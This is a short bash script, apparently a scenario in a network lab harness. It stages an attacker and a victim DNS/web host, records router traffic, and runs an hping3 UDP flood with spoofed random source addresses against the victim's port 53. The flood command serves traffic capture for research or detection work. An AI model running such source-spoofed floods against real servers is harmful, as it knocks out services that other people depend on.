#!/bin/bash
# hping3 --rand-source: UDP flood of a DNS server with 512 bytes of nothing.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80 443
resolver victim
record router wan -s 96
on attacker timeout 12 hping3 -q -n -I eth0 --udp -p 53 --rand-source -d 512 -i u60 -c 24000 10.20.0.10 >/dev/null 2>&1 || true
recorded
